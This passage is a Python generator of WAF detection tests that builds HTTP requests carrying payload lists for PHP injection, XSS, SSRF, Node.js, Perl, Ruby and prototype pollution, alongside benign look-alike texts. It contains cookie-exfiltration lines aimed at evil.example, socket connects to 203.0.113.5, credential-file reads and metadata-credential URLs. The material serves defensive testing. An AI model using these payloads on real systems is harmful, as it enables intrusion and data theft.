"""Blind set "thirtysixth": a rule author's positive tests. For each of 38 detection titles (PHP injection,
XSS, and the "generic" families: Node.js, SSRF, prototype pollution, Perl, Ruby, Node.js DoS, PHP data
scheme), the canonical attack the title names, then the variants a good rule with that title must still
catch: other keywords of the family, other quoting, casing, whitespace and comment substitutes, encodings a
server decodes. Each payload goes where such regression tests put it, three placements rotating over twelve
parts of a request: a query argument, a form field, a JSON field, a cookie, the User-Agent, the Referer,
another header, a query parameter NAME, an XML body, a multipart field, a multipart filename and the URL
path (uploads: the multipart filename and the upload-name headers; prototype pollution: bracketed query
and form names and JSON keys).

Families (category / sub): php (open-tag, script-upload, config-directive, variables, io-stream, wrapper,
func-name-high, func-call-high, serialized, var-func-call, func-name-medium, data-scheme), xss
(libinjection, script-tag, event-handler, attribute, js-uri, html-injection, attr-injection,
node-validator, ie-filters, usascii, utf7, jsfuck, js-global, disallowed-attr, tag-handler, angular,
js-method, no-parens), generic (nodejs, nodejs-modules, ssrf-metadata, ssrf-ip, pollution, perl, ruby,
nodejs-dos). The benign half: developers pasting the same words into Slack (also saved as profile bios),
documentation links, prose, names, addresses and searches that share the titles' keywords.

Authorship and independence: every payload and text was written for this set from general knowledge and
from the detection titles alone, without reading the repository's WAF rules, any ruleset's rule text or its
regression tests, other generators' lists or public payload lists. It is measured once on the unchanged code
and not changed after seeing what the WAF blocks. Deterministic: no clock, no randomness.
"""

from __future__ import annotations

import base64
import html
import json
import urllib.parse
from collections.abc import Iterator
from typing import Any

from .family_gen import UA, _form, _get, _json, _query
from .family_gen_blind_php import chat_and_bio, links_and_prose, prose_request
from .records import print_records

NAME = "thirtysixth"


def _b64(s: str) -> str:
    return base64.b64encode(s.encode()).decode()


# ---------------------------------------------------------------------------------------------- PHP
PHP: dict[str, list[str]] = {
    "open-tag": [
        "<?php echo 'owned'; ?>",
        "<?php system($_GET['c']);",
        "<?PHP passthru('id'); ?>",
        "<? phpinfo(); ?>",
        "<?= $_SERVER['DOCUMENT_ROOT'] ?>",
        "<?php\n@include($_REQUEST['f']);",
        "x'><?php exec('ls');?>",
        "<?php/**/eval($_POST[0]);",
        "<?pHp\tprint(1);?>",
        "<script language=\"php\">echo 1;</script>",
    ],
    "script-upload": [
        "shell.php",
        "cmd.PHP",
        "avatar.php5",
        "x.phtml",
        "img.jpg.php",
        "test.php7",
        "up.phar",
        "backdoor.pht",
        "index.phps",
        "../../var/www/html/s.php",
    ],
    "config-directive": [
        "allow_url_include=On",
        "auto_prepend_file=php://input",
        "allow_url_fopen = 1",
        "auto_append_file=/etc/passwd",
        "disable_functions=",
        "open_basedir=/",
        "-d allow_url_include=1 -d auto_prepend_file=php://input",
        "error_log=/var/www/html/x.php",
        "register_globals=on",
        "safe_mode=Off",
        "include_path=.:/tmp",
    ],
    "variables": [
        "$_GET['cmd']",
        "$_POST[\"x\"]",
        "$_REQUEST['a']",
        "$_COOKIE[c]",
        "$_SERVER['HTTP_USER_AGENT']",
        "$_FILES['f']['name']",
        "$GLOBALS['db_pass']",
        "$_ENV['PATH']",
        "$_SESSION['admin']=1",
        "$HTTP_GET_VARS['a']",
        "$_GET [ 'x' ]",
        "$http_response_header",
    ],
    "io-stream": [
        "php://input",
        "php://stdin",
        "php://output",
        "php://filter/read=string.toupper/resource=config.php",
        "php://fd/0",
        "php://temp",
        "php://stderr",
        "PHP://Input",
        "php://filter/convert.iconv.utf-8.utf-16/resource=/etc/hosts",
        "php://filter/zlib.deflate/resource=../db.php",
    ],
    "wrapper": [
        "phar://uploads/avatar.jpg/x",
        "zip://uploads/a.zip#shell.php",
        "compress.bzip2:///etc/passwd",
        "compress.zlib://file.gz",
        "expect://whoami",
        "glob://*.php",
        "ssh2.exec://user:pass@example.com:22/id",
        "rar://archive.rar#x.php",
        "ogg://stream.ogg",
        "PHAR://./files/doc.pdf/x.txt",
        "file:///etc/passwd",
    ],
    "func-name-high": [
        "shell_exec",
        "proc_open",
        "pcntl_exec",
        "passthru",
        "create_function",
        "call_user_func_array",
        "assert_options",
        "posix_setuid",
        "gzinflate",
        "str_rot13",
        "move_uploaded_file",
        "phpinfo",
    ],
    "func-call-high": [
        "system('id');",
        "exec(\"cat /etc/passwd\")",
        "passthru ( 'ls' )",
        "shell_exec/**/('id')",
        "popen('id','r')",
        "proc_open('sh', $d, $p)",
        "eval($_POST['x'])",
        "assert(\"phpinfo()\")",
        "file_put_contents('s.php', $_GET[0])",
        "SYSTEM('whoami')",
        "base64_decode('aWQ=')",
        "include('http://evil.example/s.txt')",
    ],
    "serialized": [
        "O:8:\"UserPref\":1:{s:5:\"theme\";s:4:\"dark\";}",
        "a:1:{i:0;O:11:\"SplFileInfo\":0:{}}",
        "O:+10:\"ConfigFile\":1:{s:4:\"path\";s:11:\"/etc/passwd\";}",
        "C:16:\"SplObjectStorage\":20:{x:i:0;m:a:0:{}}",
        "o:5:\"Cache\":1:{s:4:\"file\";s:9:\"shell.php\";}",
        "O:12:\"TemplateView\":2:{s:3:\"tpl\";s:10:\"../../x.php\";s:4:\"vars\";a:0:{}}",
        "a:2:{s:4:\"user\";s:5:\"guest\";s:4:\"role\";O:4:\"Role\":0:{}}",
        "O:6:\"Logger\":1:{S:4:\"\\66ile\";s:7:\"/tmp/xx\";}",
        "O:3:\"Foo\":1:{s:3:\"cmd\";s:2:\"id\";}",
        _b64("O:8:\"stdClass\":0:{}"),
    ],
    "var-func-call": [
        "$f('id');",
        "$_GET['a']($_GET['b']);",
        "$x = 'system'; $x('ls');",
        "${'_POST'}['f']('id')",
        "$a[0]($a[1])",
        "$cb = $_REQUEST['cb']; $cb();",
        "$obj->$method($arg)",
        "$$name('x')",
        "${\"GLOBALS\"}['f']()",
        "$func /**/ ('id')",
        "@$_COOKIE['c']($_COOKIE['d'])",
    ],
    "func-name-medium": [
        "file_get_contents('/etc/passwd')",
        "readfile('../config.php')",
        "unlink('index.php')",
        "chmod('s.php', 0777)",
        "fwrite($fp, $_POST[d])",
        "curl_exec($ch)",
        "highlight_file('wp-config.php')",
        "ini_get_all()",
        "getenv('DB_PASSWORD')",
        "parse_str($_SERVER['QUERY_STRING'])",
        "extract($_REQUEST)",
        "copy('http://evil.example/s.txt','s.php')",
    ],
    "data-scheme": [
        "data://text/plain;base64," + _b64("<?php system($_GET['c']);?>"),
        "data:text/plain,<?php phpinfo()?>",
        "data://text/plain,hello",
        "data:;base64," + _b64("<?php"),
        "DATA://text/plain;base64," + _b64("Hello"),
        "data://application/x-httpd-php;base64," + _b64("<?php echo 1;?>"),
        "data://text/plain;charset=utf-8,<?=`id`?>",
        "data://,<?php eval($_POST[1]);?>",
        "data:text/plain;base64," + _b64("<?php passthru('ls');"),
    ],
}

# ---------------------------------------------------------------------------------------------- XSS
XSS: dict[str, list[str]] = {
    "libinjection": [
        "<script>alert(1)</script>",
        "<img src=x onerror=alert(1)>",
        "\"><svg onload=confirm(1)>",
        "<body onload=prompt(document.domain)>",
        "'><iframe src=javascript:alert(1)>",
        "<a href=\"javascript:alert(1)\">x</a>",
        "<input autofocus onfocus=alert(1)>",
        "<details open ontoggle=alert(1)>",
        "<video><source onerror=alert(1)>",
        "<marquee onstart=alert(1)>",
    ],
    "script-tag": [
        "<script>alert('x')</script>",
        "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
        "<script type=\"text/javascript\">document.location='//evil.example/?c='+document.cookie</script>",
        "<scr<script>ipt>alert(1)</scr</script>ipt>",
        "<script\n>alert(1)</script>",
        "<script/x>alert(1)</script>",
        "<ScRiPt >prompt(1)</ScRiPt >",
        "<script src=data:,alert(1)></script>",
        "<script>eval(atob('YWxlcnQoMSk='))</script>",
        "<script defer>fetch('//evil.example/'+document.cookie)</script>",
    ],
    "event-handler": [
        "<img src=x onerror=alert(1)>",
        "<body onpageshow=alert(1)>",
        "<div onmouseover=\"alert(1)\">hover</div>",
        "<svg/onload=alert(1)>",
        "x\" onfocus=alert(1) autofocus=\"",
        "<img src=x ONERROR=alert(1)>",
        "<img src=x onerror\t=\talert(1)>",
        "<form onsubmit=alert(1)><button>x</button></form>",
        "<select onchange=alert(1)><option>1</option></select>",
        "<object onerror=alert(1)>",
        "<img src=x onerror=&#97;lert(1)>",
        "<svg><animate onbegin=alert(1) attributeName=x>",
    ],
    "attribute": [
        "<img style=\"background:url(javascript:alert(1))\">",
        "<div style=\"width:expression(alert(1))\">",
        "<table background=\"javascript:alert(1)\">",
        "<img dynsrc=\"javascript:alert(1)\">",
        "<img lowsrc=\"javascript:alert(1)\">",
        "<button formaction=javascript:alert(1)>x</button>",
        "<iframe srcdoc=\"&lt;script&gt;alert(1)&lt;/script&gt;\">",
        "<object data=\"javascript:alert(1)\">",
        "<embed src=\"javascript:alert(1)\">",
        "<a href=\"vbscript:msgbox(1)\">x</a>",
        "<link rel=stylesheet href=\"javascript:alert(1)\">",
    ],
    "js-uri": [
        "javascript:alert(1)",
        "JaVaScRiPt:alert(document.cookie)",
        "javascript&#58;alert(1)",
        "java\tscript:alert(1)",
        "javascript://\nalert(1)",
        "  javascript:alert(1)",
        "vbscript:msgbox(1)",
        "javascript:void(document.location='//evil.example')",
        "jav&#x61;script:alert(1)",
        "livescript:alert(1)",
        "&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)",
    ],
    "html-injection": [
        "<iframe src=//evil.example>",
        "<form action=//evil.example/login><input name=pass type=password>",
        "<meta http-equiv=\"refresh\" content=\"0;url=//evil.example\">",
        "<base href=//evil.example/>",
        "<object data=//evil.example/x.swf>",
        "<embed src=//evil.example/x.swf>",
        "<applet code=X.class>",
        "<link rel=import href=//evil.example/x.html>",
        "<style>@import'//evil.example/x.css';</style>",
        "<frameset><frame src=//evil.example>",
        "<isindex action=javascript:alert(1) type=image>",
        "<xss:script xmlns:xss=\"http://www.w3.org/1999/xhtml\">alert(1)</xss:script>",
    ],
    "attr-injection": [
        "\" onmouseover=\"alert(1)",
        "' onfocus='alert(1)' autofocus='",
        "\" style=\"x:expression(alert(1))",
        "\"><img src=x onerror=alert(1)>",
        "\" autofocus onfocus=alert(document.domain) x=\"",
        "' accesskey='x' onclick='alert(1)",
        "\" formaction=\"javascript:alert(1)",
        "x\" src=x onerror=\"alert(1)",
        "\"/onpointerover=alert(1)//",
    ],
    "node-validator": [
        "document.cookie",
        "document.write('<img src=//evil.example/'+1+'>')",
        "x.innerHTML='<b>'",
        "window.location='//evil.example'",
        "el.parentNode.removeChild(el)",
        "-moz-binding:url(//evil.example/x.xml#xss)",
        "<!--<img src=--><img src=x onerror=alert(1)//-->",
        "<![CDATA[<script>alert(1)</script>]]>",
        "document.domain",
    ],
    "ie-filters": [
        "\";alert(1);//",
        "';alert(String.fromCharCode(88,83,83))//",
        "<a href=\"javas&#99;ript:alert(1)\">",
        "<style>body{behavior:url(x.htc)}</style>",
        "<div style=\"x:expr/**/ession(alert(1))\">",
        "<meta charset=\"UTF-7\">",
        "<base href=\"javascript:alert(1)//\">",
        "<form><button formaction=javascript:alert(1)>x",
        "<object classid=\"clsid:333C7BC4-460F-11D0-BC04-0080C7055A83\">",
        "\"}};alert(1);//",
    ],
    "usascii": [
        "\u00bcscript\u00bealert(\u00a2XSS\u00a2)\u00bc/script\u00be",
        "\u00bcimg src=x onerror=alert(1)\u00be",
        "\u00bcsvg onload=alert(1)\u00be",
        "\u00bciframe src=javascript:alert(1)\u00be",
        "\u00bcbody onload=alert(\u00a21\u00a2)\u00be",
        "\u00bcscript src=\u00a2//evil.example/x.js\u00a2\u00be\u00bc/script\u00be",
        "\u00bc/title\u00be\u00bcscript\u00bealert(1)\u00bc/script\u00be",
        "\u00a2\u00be\u00bcscript\u00bealert(1)\u00bc/script\u00be",
    ],
    "utf7": [
        "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
        "+ADw-img src=x onerror=alert(1)+AD4-",
        "+ADw-svg onload=alert(1)+AD4-",
        "+ACI-+AD4-+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
        "+ADw-iframe src=javascript:alert(1)+AD4-",
        "+ADw-SCRIPT+AD4-alert('XSS')+ADsAPA-/SCRIPT+AD4-",
        "+/v8 +ADw-script+AD4-alert(1)+ADw-/script+AD4-",
        "+ADw-body onload=alert(1)+AD4-",
    ],
    "jsfuck": [
        "(![]+[])[+[]]",
        "[][(![]+[])[+[]]+(![]+[])[!+[]+!+[]]+(![]+[])[+!+[]]+(!![]+[])[+[]]]"
        "[([][(![]+[])[+[]]]+[])[!+[]+!+[]+!+[]]]",
        "(!![]+[])[+!+[]]+(!![]+[])[!+[]+!+[]+!+[]]",
        "[+!+[]]+[!+[]+!+[]]",
        "(+{}+[])[+!![]]",
        "([][[]]+[])[+!![]]",
        "(![]+[])[!![]+!![]+!![]]",
        "alert((![]+[])[+!+[]])",
        "$=~[];$={___:++$,$$$$:(![]+\"\")[$]}",
    ],
    "js-global": [
        "window['alert'](1)",
        "self['al'+'ert'](1)",
        "top[/al/.source+/ert/.source](1)",
        "this['ale'+'rt'](1)",
        "globalThis.alert(1)",
        "parent['eval']('alert(1)')",
        "frames[0].eval('x')",
        "window[\"document\"][\"cookie\"]",
        "document['cookie']",
        "self[atob('YWxlcnQ=')](1)",
        "top['al\\x65rt'](1)",
    ],
    "disallowed-attr": [
        "<x style=\"color:red\">",
        "<p style=x:expression(alert(1))>",
        "<img src=\"//evil.example/p.gif\">",
        "<a href=\"//evil.example\">click</a>",
        "<div datasrc=#x datafld=a>",
        "<xml src=\"//evil.example/x.xml\" id=x>",
        "<input type=image src=x>",
        "<iframe srcdoc='<b>x</b>'>",
        "<frame src=\"//evil.example\">",
        "<span style=\"behavior:url(#default#time2)\">",
    ],
    "tag-handler": [
        "<iframe src=//evil.example></iframe>",
        "<embed src=x>",
        "<object type=text/html data=x>",
        "<applet>",
        "<frameset>",
        "<meta name=x content=y>",
        "<style>*{color:red}</style>",
        "<link href=//evil.example/x.css rel=stylesheet>",
        "<base href=/>",
        "<svg><g/></svg>",
        "<math><maction actiontype=statusline>",
        "<xmp><b>x</b></xmp>",
    ],
    "angular": [
        "{{constructor.constructor('alert(1)')()}}",
        "{{$on.constructor('alert(1)')()}}",
        "{{'a'.constructor.prototype.charAt=[].join;$eval('x=1} } };alert(1)//');}}",
        "{{toString.constructor.prototype.toString=toString.constructor.prototype.call;"
        "[\"a\",\"alert(1)\"].sort(toString.constructor);}}",
        "{{x = {'y':''.constructor.prototype}; x['y'].charAt=[].join;$eval('x=alert(1)');}}",
        "{{[].pop.constructor('alert(1)')()}}",
        "<div ng-app ng-csp><input autofocus ng-focus=$event.view.alert(1)>",
        "{{$eval.constructor('alert(1)')()}}",
        "{{constructor.constructor('return document.cookie')()}}",
        "<div ng-app>{{$new.constructor('alert(1)')()}}</div>",
    ],
    "js-method": [
        "String.fromCharCode(88,83,83)",
        "window.location.href='//evil.example'",
        "document.write(1)",
        "eval(atob('YWxlcnQoMSk='))",
        "setTimeout('alert(1)',0)",
        "document.getElementById('x').innerHTML=1",
        "localStorage.getItem('token')",
        "fetch('//evil.example/?'+document.cookie)",
        "navigator.sendBeacon('//evil.example',document.cookie)",
        "new Image().src='//evil.example/?c='+document.cookie",
        "document.body.appendChild(s)",
    ],
    "no-parens": [
        "onerror=alert`1`",
        "<img src=x onerror=alert`1`>",
        "<svg onload=alert`document.domain`>",
        "throw onerror=alert,1",
        "<script>onerror=alert;throw 1</script>",
        "<script>{onerror=eval}throw'=alert\\x281\\x29'</script>",
        "location='javascript:alert%281%29'",
        "<img src=x onerror=location=`javascript:alert\\x281\\x29`>",
        "setTimeout`alert\\x281\\x29`",
        "[1].find(alert)",
        "<img src=x onerror=window.onerror=alert;throw+1>",
        "x=alert,x`1`",
    ],
}

# ------------------------------------------------------------------------------------------ generic
GENERIC: dict[str, list[str]] = {
    "nodejs": [
        "require('child_process').exec('id')",
        "res.end(require('fs').readFileSync('/etc/passwd'))",
        "process.exit(1)",
        "new Function('return process')()",
        "eval(\"require('child_process').execSync('ls')\")",
        "this.constructor.constructor('return this')().process",
        "require(`child_process`).spawnSync(`sh`)",
        "global.process.kill(1)",
        "require('fs').writeFileSync('/tmp/x','y')",
        "setTimeout(function(){process.exit()},0)",
        "require( \"child_process\" ).execFile( \"/bin/ls\" )",
    ],
    "nodejs-modules": [
        "require('net').connect(4444,'203.0.113.5')",
        "process.mainModule.require('child_process')",
        "module.require('os').userInfo()",
        "global.require('fs')",
        "process.binding('fs')",
        "globalThis.process.env.AWS_SECRET_ACCESS_KEY",
        "process.env",
        "require.main.require('child_process')",
        "import('child_process').then(c=>c.execSync('id'))",
        "process.dlopen(module,'/tmp/x.node')",
        "process.cwd()",
        "require('vm').runInThisContext('1')",
    ],
    "ssrf-metadata": [
        "http://169.254.169.254/latest/meta-data/",
        "http://169.254.169.254/latest/meta-data/iam/security-credentials/",
        "http://metadata.google.internal/computeMetadata/v1/",
        "http://metadata/computeMetadata/v1/instance/service-accounts/default/token",
        "http://169.254.169.254/metadata/instance?api-version=2021-02-01",
        "http://100.100.100.200/latest/meta-data/",
        "http://[fd00:ec2::254]/latest/meta-data/",
        "http://169.254.170.2/v2/credentials",
        "http://192.0.0.192/latest/",
        "http://169.254.169.254/openstack/latest/meta_data.json",
        "http://instance-data/latest/meta-data/",
        "http://169.254.169.254/metadata/v1/",
    ],
    "ssrf-ip": [
        "http://127.0.0.1:8080/admin",
        "http://10.0.0.5/",
        "http://2130706433/",
        "http://0x7f000001/",
        "http://0177.0.0.1/",
        "http://127.1/",
        "http://[::1]:6379/",
        "http://0/",
        "http://[::ffff:127.0.0.1]/",
        "gopher://127.0.0.1:6379/_INFO",
        "http://192.168.1.1:22/",
        "http://017700000001/",
        "http://0x7f.0x0.0x0.0x1/",
        "http://127.000.000.001/",
        "dict://172.16.0.10:11211/stats",
        "http://\u2460\u2461\u2466.\u24ea.\u24ea.\u2460/",
    ],
    "perl": [
        "@{[system 'id']}",
        "exec('/bin/sh')",
        "open(F, '|id')",
        "system(\"cat /etc/passwd\")",
        "eval{system('id')}",
        "qx{id}",
        "qx/ls -la/",
        "use IO::Socket;$s=IO::Socket::INET->new('203.0.113.5:4444')",
        "print `whoami`",
        "$ENV{'PATH'}",
        "perl -e 'print 1'",
        "do '/tmp/x.pl'",
    ],
    "ruby": [
        "Kernel.exec('id')",
        "`id`.to_s",
        "%x(id)",
        "IO.popen('id').read",
        "system('ls')",
        "Open3.capture2('id')",
        "eval(params[:code])",
        "ObjectSpace.each_object(Class)",
        "File.read('/etc/passwd')",
        "Process.spawn('sh')",
        "instance_eval('puts 1')",
        "send(:system, 'id')",
        "\"#{`id`}\"",
    ],
    "nodejs-dos": [
        "while(true){}",
        "for(;;){}",
        "while(1);",
        "do{}while(true)",
        "/(a+)+$/.test('aaaaaaaaaaaaaaaaaaaaaaaaaaaa!')",
        "new RegExp('(x+x+)+y').test('x'.repeat(40))",
        "'a'.repeat(1e9)",
        "Array(1e9).fill(0)",
        "(function f(){f()})()",
        "setInterval(()=>{while(true){}},1)",
        "process.nextTick(function x(){process.nextTick(x)})",
    ],
}

# prototype pollution: (bracketed query / form names, the same as a JSON document)
POLLUTION: list[tuple[str, Any]] = [
    ("__proto__[admin]=1", {"__proto__": {"admin": 1}}),
    ("user[__proto__][role]=admin", {"user": {"__proto__": {"role": "admin"}}}),
    ("constructor[prototype][isAdmin]=true", {"constructor": {"prototype": {"isAdmin": True}}}),
    ("__proto__.polluted=yes", {"__proto__.polluted": "yes"}),
    ("a[constructor][prototype][shell]=node", {"a": {"constructor": {"prototype": {"shell": "node"}}}}),
    ("__proto__[toString]=x", {"__proto__": {"toString": "x"}}),
    ("settings%5B__proto__%5D%5Bdebug%5D=true", {"settings": {"__proto__": {"debug": True}}}),
    ("x[__proto__][]=1", {"x": {"__proto__": [1]}}),
    ("a[__proto__]=b", {"a": {"__proto__": "b"}}),
    ("profile[constructor][prototype][canDelete]=1",
     {"profile": {"constructor": {"prototype": {"canDelete": 1}}}}),
]

FAMILIES = {"php": PHP, "xss": XSS, "generic": GENERIC}

PLACES = ["query", "form", "json", "cookie", "user-agent", "referer", "header", "param-name", "xml",
          "multipart-field", "multipart-filename", "path"]
PARAMS = ["q", "name", "data", "search", "comment", "url", "file", "callback", "redirect", "title"]
URL_PARAMS = ["url", "callback", "webhook", "image_url", "redirect", "feed"]
BOUNDARY = "----thirtysixthBoundary7MA4YWxkTrZu0gW"
LATIN1_SUBS = {"usascii"}


def _headers(extra: dict[str, str] | None = None) -> dict[str, str]:
    return {"User-Agent": UA, "Accept": "application/json", **(extra or {})}


def _hv(value: str) -> str:
    """A header value: no CR, LF or NUL (nginx refuses them before the WAF)."""
    return value.replace("\r", " ").replace("\n", " ").replace("\x00", " ")


def _q(value: str, sub: str) -> str:
    return urllib.parse.quote(value, safe="", encoding="latin-1" if sub in LATIN1_SUBS else "utf-8")


def _multipart(parts: list[tuple[str, str | None, str]]) -> str:
    """(field name, filename or None, content); a filename's quote and line breaks as browsers send them."""
    out = []
    for name, filename, content in parts:
        disp = f'form-data; name="{name}"'
        ctype = ""
        if filename is not None:
            fn = filename.replace('"', "%22").replace("\r", "%0D").replace("\n", "%0A")
            disp += f'; filename="{fn}"'
            ctype = "Content-Type: application/octet-stream\r\n"
        out.append(f"--{BOUNDARY}\r\nContent-Disposition: {disp}\r\n{ctype}\r\n{content}\r\n")
    return "".join(out) + f"--{BOUNDARY}--\r\n"


def _place(place: str, name: str, value: str, sub: str, header: str = "X-Search-Filter") -> dict[str, Any]:
    if place == "query":
        return _get(f"/api/users?{name}={_q(value, sub)}&page=1")
    if place == "form":
        return {**_form("/admin/users/search", [("csrf_token", "t0k3n")]),
                "body": f"csrf_token=t0k3n&{name}={_q(value, sub)}"}
    if place == "json":
        return _json("/api/users", {"email": "a@example.org", name: value})
    if place == "cookie":
        return {**_get("/api/users?page=1"),
                "headers": _headers({"Cookie": f"session=abc123; {name}={urllib.parse.quote(value)}"})}
    if place == "user-agent":
        return {**_get("/api/users?page=1"), "headers": {"User-Agent": _hv(value), "Accept": "application/json"}}
    if place == "referer":
        return {**_get("/api/users?page=1"), "headers": _headers({"Referer": _hv(value)})}
    if place == "header":
        return {**_get("/api/users?page=1"), "headers": _headers({header: _hv(value)})}
    if place == "param-name":
        return _get(f"/api/users?{_q(value, sub)}=1&page=1")
    if place == "xml":
        body = ('<?xml version="1.0" encoding="UTF-8"?>\n<user><email>a@example.org</email>'
                f"<{name}>{html.escape(value, quote=False)}</{name}></user>")
        return {"method": "POST", "uri": "/api/users", "body": body,
                "headers": _headers({"Content-Type": "text/xml; charset=utf-8"})}
    if place in ("multipart-field", "multipart-filename"):
        if place == "multipart-field":
            parts = [("csrf_token", None, "t0k3n"), (name, None, value)]
        else:
            parts = [("csrf_token", None, "t0k3n"), ("upload", value, "hello\n")]
        return {"method": "POST", "uri": "/api/users", "body": _multipart(parts),
                "headers": _headers({"Content-Type": f"multipart/form-data; boundary={BOUNDARY}"})}
    if place == "path":
        return _get("/api/users/" + _q(value, sub))
    raise ValueError(place)


def _placements(i: int, sub: str) -> list[str]:
    if sub == "script-upload":
        return ["multipart-filename", "header"]
    start = (3 * i + len(sub)) % len(PLACES)
    return [PLACES[(start + k) % len(PLACES)] for k in range(3)]


def attacks() -> Iterator[dict[str, Any]]:
    for family, subs in FAMILIES.items():
        for sub, payloads in subs.items():
            n = 0
            params = URL_PARAMS if sub.startswith("ssrf") else PARAMS
            for i, p in enumerate(payloads):
                for k, place in enumerate(_placements(i, sub)):
                    n += 1
                    header = ("X-File-Name" if i % 2 else "X-Filename") if sub == "script-upload" else \
                        ("X-Callback-Url" if sub.startswith("ssrf") else "X-Search-Filter")
                    name = params[(i + k) % len(params)]
                    yield {**_place(place, name, p, sub, header), "id": f"{NAME}-{family}-{sub}-{n:04d}",
                           "category": family, "sub": sub, "placement": place, "payload": p}
    n = 0
    for qs, doc in POLLUTION:
        for place in ("query", "form", "json"):
            n += 1
            if place == "query":
                rec = _get("/api/users?page=1&" + qs)
            elif place == "form":
                rec = {**_form("/admin/users/search", [("csrf_token", "t0k3n")]), "body": "csrf_token=t0k3n&" + qs}
            else:
                rec = _json("/api/users", {"email": "a@example.org", **doc})
            yield {**rec, "id": f"{NAME}-generic-pollution-{n:04d}", "category": "generic", "sub": "pollution",
                   "placement": place, "payload": qs if place != "json" else json.dumps(doc)}


# ------------------------------------------------------------------------------------------- benign
SLACK_TEXTS = [
    "heads up: the php-fpm image now ships with allow_url_fopen off, ping me if your import breaks",
    "does anyone remember why we set display_errors in the staging php.ini? it leaks paths",
    "the PHP docs say never to unserialize user input, let's switch that cache to json_encode",
    "reminder that $_POST is empty when the body is JSON, read php://input instead",
    "I renamed the upload folder, avatars now end in .png or .jpg only",
    "the new SSRF check blocks 169.254.169.254 for the webhook fetcher, tested it this morning",
    "prototype pollution advisory for lodash merge, we're on 4.17.21 so we're fine",
    "the CSP now forbids inline event handlers like onclick, move them into the bundle",
    "please don't use innerHTML in the settings page, textContent does the job",
    "anyone else seeing the AngularJS 1.x end-of-life warning in the old admin?",
    "our Node service still calls require('child_process') for the thumbnailer, can we drop that?",
    "that regex in the email validator backtracks badly on long input, let's use the library",
    "the Ruby worker reads the file with File.read, not IO.popen, so no shell there",
    "Perl is only used in the legacy log rotation script, nobody should touch it",
    "the metadata endpoint on GCP needs the Metadata-Flavor header, our SDK sends it",
    "JSFuck is a fun talk topic for the security brown bag, six characters only",
    "UTF-7 used to be a thing in old IE, browsers dropped it long ago",
    "the script tag for analytics moved to the footer, page load is faster",
    "the document.cookie access is gone from the frontend, we use httpOnly cookies now",
    "window.location redirects in the login flow now go through our allowlist",
    "we migrated the data URI icons to SVG sprites",
    "template literals in the logger make the messages much easier to read",
    "the javascript: links in the old help pages were replaced by buttons",
    "the style attribute on the banner should be a class, design asked",
    "the XML export now escapes ampersands correctly, thanks for the report",
    "can someone review the patch for the file upload size limit? 10 MB max",
    "I think the event loop was blocked by the sync crypto call, moved it to a worker",
    "the config directive for upload_max_filesize is in the Helm chart now",
    "we don't support phar archives for plugins, only zip",
    "the load balancer health check hits 127.0.0.1 inside the pod, that's expected",
    "the internal wiki lives at 10.0.0.0/8 addresses, only reachable on VPN",
    "let's compare frameworks: Express, Koa and Fastify, I prefer Fastify",
    "the Ruby on Rails app uses strong params, mass assignment is covered",
    "global variables in the widget script are namespaced under window.Acme now",
    "shell access to the build box is via the bastion only",
    "I wrote a short doc on why eval is discouraged in our style guide",
    "the iframe embed for the status page got a sandbox attribute",
    "the meta refresh on the old landing page is replaced by a 301",
    "base href in the SPA is set to / in production and /app/ in staging",
    "formaction on the submit button wasn't needed, removed it",
    "the vendor's serialized session format changed in PHP 8, we re-login everyone on upgrade",
    "the phpinfo page was removed from staging last sprint",
    "our Node version is 20, the vm module is not a security boundary per the docs",
    "the cron job that runs every minute needs a lock, two overlapped yesterday",
    "the new image proxy only fetches https URLs from the allowlist",
    "cookie consent banner text updated in all 12 languages",
    "the object storage bucket policy denies public reads now",
    "the applet mentioned in the legacy manual has not existed since 2012",
    "the embed code for videos uses the privacy-enhanced mode",
    "marquee text on the intranet homepage is finally gone",
    "the process for onboarding new contractors is in Notion",
    "the system prompt for the support bot was updated by legal",
    "our execution plan for Q3 is in the shared drive",
    "the import script reads the CSV and writes the users table",
    "let's pair on the form validation later, the onsubmit handler is messy",
    "the exec summary for the board is due Friday",
    "open the settings page and click Save, then reload",
    "I pushed the fix for the header alignment on mobile",
    "the IP allowlist for the partner API: 203.0.113.0/24 and 198.51.100.7",
    "Ruby 3.3 upgrade went smoothly, only two gems needed bumps",
]

PUBLIC_URLS = [
    "https://www.php.net/manual/en/wrappers.php.php",
    "https://www.php.net/manual/en/function.unserialize.php",
    "https://www.php.net/manual/en/ini.core.php",
    "https://www.php.net/manual/en/reserved.variables.post.php",
    "https://nodejs.org/api/child_process.html",
    "https://nodejs.org/api/vm.html",
    "https://developer.mozilla.org/en-US/docs/Web/HTML/Element/script",
    "https://developer.mozilla.org/en-US/docs/Web/API/Document/cookie",
    "https://developer.mozilla.org/en-US/docs/Web/JavaScript/Reference/Template_literals",
    "https://developer.mozilla.org/en-US/docs/Web/JavaScript/Inheritance_and_the_prototype_chain",
    "https://developer.mozilla.org/en-US/docs/Web/HTTP/Basics_of_HTTP/Data_URLs",
    "https://docs.aws.amazon.com/AWSEC2/latest/UserGuide/instancedata-data-retrieval.html",
    "https://cloud.google.com/compute/docs/metadata/overview",
    "https://owasp.org/www-community/attacks/Server_Side_Request_Forgery",
    "https://cheatsheetseries.owasp.org/cheatsheets/Cross_Site_Scripting_Prevention_Cheat_Sheet.html",
    "https://docs.angularjs.org/guide/security",
    "https://ruby-doc.org/3.3/Kernel.html",
    "https://perldoc.perl.org/perlsec",
    "https://en.wikipedia.org/wiki/UTF-7",
    "https://en.wikipedia.org/wiki/JSFuck",
    "https://github.com/expressjs/express/blob/master/Readme.md",
    "https://www.example.com/blog/2024/03/why-we-moved-from-php-to-go",
    "https://shop.example.org/products/script-font-poster?size=a3",
    "https://news.example.com/articles/event-handler-best-practices",
]

PROSE = [
    "PHP developer",
    "script writer",
    "Data Scientist",
    "Javascript course for beginners",
    "system administrator jobs",
    "Ruby Johnson",
    "Pearl Street 42",
    "1 Object Lane, Springfield",
    "Process engineer, Rotterdam",
    "event coordinator",
    "Angular Gonzalez",
    "serialized fiction podcast",
    "prototype workshop",
    "metadata librarian",
    "style guide 2025",
    "window cleaning Friday",
    "document review",
    "alert settings",
    "error log review",
    "frame and border",
    "form for expenses",
    "base salary bands",
    "media query",
    "node count in cluster",
    "shell company audit",
    "iframe of the dashboard",
    "exec committee minutes",
    "global settings",
    "input validation",
    "the cookie jar",
    "Open house at 10 Perl Road",
